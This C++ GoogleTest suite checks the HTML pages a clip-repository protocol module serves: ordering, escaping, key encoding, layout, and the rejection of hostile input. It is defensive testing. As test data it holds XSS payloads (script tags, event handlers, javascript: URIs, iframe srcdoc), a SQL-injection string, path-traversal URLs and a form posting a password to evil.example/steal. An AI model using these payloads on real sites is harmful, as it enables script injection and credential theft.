// The shipped repository pages, served by protocol.so as a host loads it, over a seeded
// repository in a throw-away home.
#include <gtest/gtest.h>
#include <libxml/HTMLparser.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <memory>
#include <utility>
#include <vector>

#include "common/sqlite/sqlite_db.h"
#include "platform/browser/fetch.h"
#include "platform/dom/document.h"
#include "platform/dom/window.h"
#include "platform/text/utf.h"
#include "tarn/protocol/module_tests/headless_chromium.h"
#include "testing/environment/temporary_home.h"

namespace {

using namespace platform::browser;
namespace com = platform::com;

constexpr GUID kTarnProtocolClass = com::guidLiteral("E55E1F27-11DA-0004-0002-00AA00000001");
const std::string kTrickyTitle = "Less <than> & \"quoted\" 'titles'";

// Parses `html` with libxml2's HTML parser; the messages of every error it reports.
std::string htmlErrors(const std::string& html) {
    std::unique_ptr<htmlParserCtxt, decltype(&htmlFreeParserCtxt)> context(htmlNewParserCtxt(),
                                                                           &htmlFreeParserCtxt);
    htmlDocPtr document =
        htmlCtxtReadMemory(context.get(), html.data(), static_cast<int>(html.size()), "page.html",
                           "UTF-8", HTML_PARSE_NONET);
    std::string errors;
    if (document == nullptr) {
        errors = "does not parse";
    } else if (!context->wellFormed) {
        const xmlError* error = xmlCtxtGetLastError(context.get());
        errors = error != nullptr && error->message != nullptr ? error->message : "not well-formed";
    }
    xmlFreeDoc(document);
    return errors;
}

std::size_t occurrences(const std::string& text, const std::string& part) {
    std::size_t count = 0;
    for (std::size_t at = text.find(part); at != std::string::npos; at = text.find(part, at + 1)) {
        ++count;
    }
    return count;
}

// A loaded module keeps its engine (and the folders it was started with) until the
// process ends, so the whole suite shares one home and one loaded module; each test
// starts from no repository file.
class ShippedPagesTest : public ::testing::Test {
  protected:
    static void SetUpTestSuite() {
        setenv("TZ", "UTC", 1);
        home_ = std::make_unique<testing_environment::TemporaryHome>();
        std::filesystem::create_directories(repository().parent_path());
        table_ = std::make_unique<ProtocolTable>();
        std::string error;
        loadResult_ = table_->registerModule(L"tarn", TAMRIX_STAGE_DIR "/bin/protocol.so",
                                             kTarnProtocolClass, &error);
        loadError_ = error;
    }
    static void TearDownTestSuite() {
        table_.reset();
        home_.reset();
    }
    void SetUp() override {
        ASSERT_EQ(loadResult_, com::S_OK) << loadError_;
        std::filesystem::remove(repository());
    }

    static std::filesystem::path repository() {
        return home_->dataHome() / "Olvan" / "Tamrix" / "tamrix.db";
    }

    FetchReply fetch(const std::wstring& url) { return fetchUrl(*table_, url); }

    std::string page(const std::wstring& url) {
        const FetchReply reply = fetch(url);
        EXPECT_EQ(reply.result, com::S_OK);
        EXPECT_EQ(reply.contentType, L"text/html");
        EXPECT_EQ(htmlErrors(reply.bytes), "");
        EXPECT_NE(reply.bytes.find("function _reload()"), std::string::npos);
        return reply.bytes;
    }

    void seed() {
        common::SqliteDB db(repository().wstring(), false);
        db.exec(
            L"CREATE TABLE entry (id TEXT, guid TEXT primary key, createTime DATETIME default "
            L"CURRENT_TIMESTAMP, updateTime DATETIME default CURRENT_TIMESTAMP, url TEXT, site "
            L"TEXT, type TEXT, category TEXT, folder TEXT, tags TEXT, title TEXT, description "
            L"TEXT, text TEXT, html TEXT, mode INTEGER);"
            L"CREATE TABLE log (guid TEXT NOT NULL, name TEXT NOT NULL, updateTime DATETIME NOT "
            L"NULL DEFAULT CURRENT_TIMESTAMP, syncTime DATETIME);"
            L"CREATE TABLE config (name TEXT NOT NULL, value TEXT);");
        auto insert =
            db.prepareStatement(L"insert into entry values (?,?,?,?,?,?,'clip',?,?,?,?,'',?,?,0);");
        const std::vector<std::vector<std::wstring>> rows = {
            {L"A0000001", L"2024-03-01 09:15:00", L"https://news.example.org/a",
             L"news.example.org", L"Tech/AI", L"Reading list", L"ai", L"Models that read", L"",
             L"<h2>Readable</h2><p>First <b>clip</b> body.</p>"},
            {L"A0000002", L"2024-03-02 10:00:00", L"https://blog.example.com/b",
             L"blog.example.com", L"Tech", L"Café & Co", L"",
             platform::text::fromUtf8(kTrickyTitle), L"Plain text only", L""},
            {L"A0000003", L"2024-03-03 11:30:00", L"javascript:alert(1)", L"", L"", L"", L"", L"",
             L"", L"<p>Third</p>"},
        };
        for (const auto& row : rows) {
            insert.reset();
            const std::wstring guid = row[0] + L"-1111-2222-3333-444455556666";
            const std::vector<std::wstring> values = {row[0], guid,   row[1], row[1],
                                                      row[2], row[3], row[4], row[5],
                                                      row[6], row[7], row[8], row[9]};
            for (std::size_t i = 0; i < values.size(); ++i) {
                insert.bind(static_cast<int>(i + 1), values[i]);
            }
            insert.exec();
        }
    }

    static inline std::unique_ptr<testing_environment::TemporaryHome> home_;
    static inline std::unique_ptr<ProtocolTable> table_;
    static inline HRESULT loadResult_ = com::E_FAIL;
    static inline std::string loadError_;
};

TEST_F(ShippedPagesTest, LatestListsEveryClipNewestFirstWithEscapedTitles) {
    seed();
    const std::string html = page(L"tarn://tamrix/latest");
    const auto third = html.find("path=\"@item/A0000003\"");
    const auto second = html.find("path=\"@item/A0000002\"");
    const auto first = html.find("path=\"@item/A0000001\"");
    ASSERT_NE(first, std::string::npos);
    EXPECT_LT(third, second);
    EXPECT_LT(second, first);
    EXPECT_NE(html.find("Less &lt;than&gt; &amp; \"quoted\" 'titles'"), std::string::npos);
    EXPECT_EQ(html.find(kTrickyTitle), std::string::npos);
    EXPECT_NE(html.find("(untitled clip)"), std::string::npos);
    EXPECT_NE(html.find("href=\"tarn://tamrix/item?A0000001\""), std::string::npos);
    EXPECT_NE(html.find("href=\"tarn://tamrix/site?news.example.org\""), std::string::npos);
    EXPECT_NE(html.find("2024-03-01 09:15"), std::string::npos);
    EXPECT_NE(html.find(">Reading list</a>"), std::string::npos);
}

TEST_F(ShippedPagesTest, ItemShowsTheClipAsAReadablePage) {
    seed();
    std::string html = page(L"tarn://tamrix/item?A0000001");
    EXPECT_NE(html.find("<h1>Models that read</h1>"), std::string::npos);
    EXPECT_NE(html.find("<h2>Readable</h2><p>First <b>clip</b> body.</p>"), std::string::npos);
    EXPECT_NE(html.find("href=\"https://news.example.org/a\""), std::string::npos);
    EXPECT_NE(html.find("href=\"tarn://tamrix/category?Tech%2FAI\""), std::string::npos);

    // By guid too; a clip with only text shows it escaped.
    html = page(L"tarn://tamrix/item?A0000002-1111-2222-3333-444455556666");
    EXPECT_NE(html.find("<h1>Less &lt;than&gt; &amp; \"quoted\" 'titles'</h1>"), std::string::npos);
    EXPECT_NE(html.find("<pre>Plain text only</pre>"), std::string::npos);

    // A source address that is no web address is not linked.
    html = page(L"tarn://tamrix/item?A0000003");
    EXPECT_EQ(html.find("javascript:"), std::string::npos);

    html = page(L"tarn://tamrix/item?A9999999");
    EXPECT_NE(html.find("This clip is not in your repository."), std::string::npos);
    html = page(L"tarn://tamrix/item?x'%20or%20'1'='1");
    EXPECT_NE(html.find("This clip is not in your repository."), std::string::npos);
}

TEST_F(ShippedPagesTest, FolderSiteAndCategoryPagesSelectByTheirKey) {
    seed();
    std::string html = page(L"tarn://tamrix/folder?Reading%20list");
    EXPECT_EQ(occurrences(html, "path=\"@item/"), 1u);
    EXPECT_NE(html.find("<h1>Reading list</h1>"), std::string::npos);
    html = page(L"tarn://tamrix/folder?Caf%C3%A9%20%26%20Co");
    EXPECT_EQ(occurrences(html, "path=\"@item/"), 1u);
    EXPECT_NE(html.find("<h1>Café &amp; Co</h1>"), std::string::npos);
    html = page(L"tarn://tamrix/folder?Nothing%20here");
    EXPECT_EQ(occurrences(html, "path=\"@item/"), 0u);
    EXPECT_NE(html.find("This folder holds no clips."), std::string::npos);

    html = page(L"tarn://tamrix/site?blog.example.com");
    EXPECT_EQ(occurrences(html, "path=\"@item/"), 1u);
    EXPECT_NE(html.find("path=\"@item/A0000002\""), std::string::npos);

    // A category holds the clips below it; "Te" is no category of "Tech".
    html = page(L"tarn://tamrix/category?Tech");
    EXPECT_EQ(occurrences(html, "path=\"@item/"), 2u);
    EXPECT_NE(html.find("path=\"@category/Tech/AI\""), std::string::npos);
    html = page(L"tarn://tamrix/category?Tech/AI");
    EXPECT_EQ(occurrences(html, "path=\"@item/"), 1u);
    html = page(L"tarn://tamrix/category?Te");
    EXPECT_EQ(occurrences(html, "path=\"@item/"), 0u);
    EXPECT_NE(html.find("This category holds no clips."), std::string::npos);
}

// The link of the given class in the list item of clip `id` on `html`.
std::wstring linkOf(const std::string& html, const std::string& id, const std::string& kind) {
    const auto item = html.find("path=\"@item/" + id + "\"");
    const std::string marker = "class=\"" + kind + "\" href=\"";
    const auto link = html.find(marker, item);
    if (item == std::string::npos || link == std::string::npos) {
        return L"";
    }
    const auto start = link + marker.size();
    return platform::text::fromUtf8(html.substr(start, html.find('"', start) - start));
}

TEST_F(ShippedPagesTest, KeysWithUrlCharactersOpenTheirOwnClips) {
    seed();
    {
        common::SqliteDB db(repository().wstring(), false);
        db.exec(
            L"insert into entry (id, guid, site, category, folder, title) values "
            L"('B0000001', 'B1', 'a&b.example', 'C#/x=1', '50%', 'Percent clip'),"
            L"('B0000002', 'B2', 'c#.example', '50%', 'C#', 'Sharp clip'),"
            L"('B0000003', 'B3', '50%.example', 'a&b', 'a&b', 'Ampersand clip'),"
            L"('B0000004', 'B4', '', '', 'a', 'Decoy a'),"
            L"('B0000005', 'B5', '', '', 'C', 'Decoy C');");
    }
    const std::string latest = page(L"tarn://tamrix/latest");
    const std::vector<std::pair<std::string, std::string>> clips = {
        {"B0000001", "Percent clip"}, {"B0000002", "Sharp clip"}, {"B0000003", "Ampersand clip"}};
    for (const auto& [id, title] : clips) {
        for (const std::string kind : {"folder", "site"}) {
            const std::wstring link = linkOf(latest, id, kind);
            ASSERT_FALSE(link.empty()) << id << " " << kind;
            const std::string html = page(link);
            EXPECT_EQ(occurrences(html, "path=\"@item/"), 1u) << platform::text::toUtf8(link);
            EXPECT_NE(html.find("path=\"@item/" + id + "\""), std::string::npos)
                << platform::text::toUtf8(link);
        }
        const std::string item = page(L"tarn://tamrix/item?" + platform::text::fromUtf8(id));
        const std::string::size_type at = item.find("class=\"category\" href=\"");
        ASSERT_NE(at, std::string::npos) << id;
        const std::string::size_type start = at + std::string("class=\"category\" href=\"").size();
        const std::string category = item.substr(start, item.find('"', start) - start);
        const std::string html = page(platform::text::fromUtf8(category));
        EXPECT_NE(html.find("path=\"@item/" + id + "\""), std::string::npos) << category;
        EXPECT_NE(html.find(title), std::string::npos) << category;
    }
}

TEST_F(ShippedPagesTest, ThePaneListsClipsFoldersCategoriesAndSites) {
    seed();
    const std::string html = page(L"tarn://tamrix/pane");
    EXPECT_EQ(occurrences(html, "path=\"@item/"), 3u);
    EXPECT_NE(html.find("path=\"@folder/Reading list\""), std::string::npos);
    EXPECT_NE(html.find("path=\"@folder/Café &amp; Co\""), std::string::npos);
    EXPECT_NE(html.find("path=\"@category/Tech\""), std::string::npos);
    EXPECT_NE(html.find("path=\"@category/Tech/AI\""), std::string::npos);
    EXPECT_NE(html.find("path=\"@site/news.example.org\""), std::string::npos);
}

// The pages as the browser's own layout shows them: the header's words and a group's
// count stand apart from the names beside them.
TEST_F(ShippedPagesTest, HeaderWordsAndGroupCountsStandApartWhenLaidOut) {
    seed();
    using platform::dom::Document;
    using platform::dom::Rect;
    const auto firstOf = [](const Document& document, const wchar_t* tag,
                            const wchar_t* className) {
        for (const auto& element : document.getElementsByTagName(tag))
            if (className == element->className())
                return element;
        return std::shared_ptr<platform::dom::Element>();
    };
    const auto boxOf = [](const Document& document, const auto& element) {
        return element ? document.boxOf(*element).value_or(Rect{}) : Rect{};
    };
    auto latest = Document::parse(platform::text::fromUtf8(page(L"tarn://tamrix/latest")));
    latest->parentWindow().resizeTo(800, 600);
    const Rect brand = boxOf(*latest, firstOf(*latest, L"SPAN", L"brand"));
    const Rect here = boxOf(*latest, firstOf(*latest, L"A", L"here"));
    ASSERT_FALSE(brand.isEmpty());
    EXPECT_GE(here.left, brand.right + 10);
    EXPECT_EQ(here.top, brand.top);
    EXPECT_EQ(boxOf(*latest, firstOf(*latest, L"DIV", L"bar")).width(), 800);

    auto pane = Document::parse(platform::text::fromUtf8(page(L"tarn://tamrix/pane")));
    pane->parentWindow().resizeTo(291, 600);
    const auto count = firstOf(*pane, L"SPAN", L"n");
    ASSERT_TRUE(count);
    const Rect row = boxOf(*pane, count->parentElement());
    const Rect number = boxOf(*pane, count);
    const Rect name = boxOf(*pane, count->parentElement()->children().front());
    EXPECT_LT(row.right - number.right, 10) << "the count stands at the row's right end";
    EXPECT_GT(number.left, name.right + 20);
}

TEST_F(ShippedPagesTest, AFreshRepositoryShowsWhatToDo) {
    std::string html = page(L"tarn://tamrix/latest");
    EXPECT_NE(html.find("Your repository holds no clips yet."), std::string::npos);
    html = page(L"tarn://tamrix/pane");
    EXPECT_NE(html.find("No clips yet."), std::string::npos);
}

TEST_F(ShippedPagesTest, UnknownPagesAndTraversalGiveNothing) {
    seed();
    EXPECT_EQ(fetch(L"tarn://tamrix/nothing").result, -1);
    EXPECT_EQ(fetch(L"tarn://tamrix/latest/more").result, -1);
    EXPECT_EQ(fetch(L"tarn://resources/../plugins/tamrix/plugins.xml").result,
              com::INET_E_INVALID_URL);
    EXPECT_EQ(fetch(L"tarn://resources/%2E%2E/plugins/tamrix/plugins.xml").result,
              com::INET_E_INVALID_URL);
}

// A clip or synced entry may hold anything a hostile page puts in it: none of it may run
// in the repository's page, as a real browser shows it.
TEST_F(ShippedPagesTest, HostileClipRunsNoScriptInABrowser) {
    if (!testing_chromium::chromiumProgram())
        GTEST_SKIP() << "chromium is not installed, so the page cannot be shown in a browser";
    seed();
    {
        common::SqliteDB db(repository().wstring(), false);
        auto insert = db.prepareStatement(
            L"insert into entry values ('B0000001','B0000001-1111-2222-3333-444455556666',"
            L"'2024-03-04 08:00:00','2024-03-04 08:00:00','https://evil.example/','evil.example',"
            L"'clip','','','','Hostile','','',?,0);");
        insert.bind(
            1,
            std::wstring(L"<p id=kept>Hostile clip</p>"
                         L"<script>document.title='ran: script'</script>"
                         L"<img src=missing.png onerror=\"document.title='ran: onerror'\">"
                         L"<svg onload=\"document.title='ran: svg'\"></svg>"
                         L"<details open ontoggle=\"document.title='ran: toggle'\">d</details>"
                         L"<iframe srcdoc=\"<script>parent.document.title='ran: frame'</script>\">"
                         L"</iframe><object data=\"javascript:document.title='ran: object'\">"
                         L"</object><embed src=\"javascript:document.title='ran: embed'\">"
                         L"<a id=link href=\" javascript:document.title='ran: link'\">link</a>"
                         L"<form action=\"vbscript:x\"><input id=field autofocus "
                         L"onfocus=\"document.title='ran: focus'\"></form>"
                         L"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">"
                         L"<base href=\"javascript:alert(2)//\">"
                         L"<style>p{}</style><img src=x onerror=document.title='ran: style'>"
                         L"<style>h1{display:none}</style><div id=cover style=\"position:"
                         L"fixed;top:0;left:0;width:100%;height:100%\">cover</div>"
                         L"<form action=\"https://evil.example/steal\" method=post>"
                         L"<input type=password id=pw></form>"));
        insert.exec();
    }
    // HTML5 elements (svg, details) stay, so the HTML 4 checker of page() does not apply.
    const FetchReply reply = fetch(L"tarn://tamrix/item?B0000001");
    ASSERT_EQ(reply.result, com::S_OK);
    const std::string& html = reply.bytes;
    const std::filesystem::path file = home_->root() / "item.html";
    std::ofstream(file, std::ios::binary) << html;

    const auto dom = testing_chromium::dumpDom(file);
    ASSERT_TRUE(dom.has_value());
    ASSERT_NE(dom->find("Hostile clip"), std::string::npos) << *dom;
    EXPECT_EQ(dom->find("ran: "), std::string::npos) << *dom;
    EXPECT_NE(dom->find("<title>Hostile"), std::string::npos) << *dom;
    for (const char* gone : {"javascript:", "vbscript:", "onerror", "onload", "ontoggle", "onfocus",
                             "<iframe", "<object", "<embed", "<base", "refresh", "h1{display:none}",
                             "position:fixed", "/steal", "id=\"pw\""})
        EXPECT_EQ(dom->find(gone), std::string::npos) << gone << " in " << *dom;
}

}  // namespace
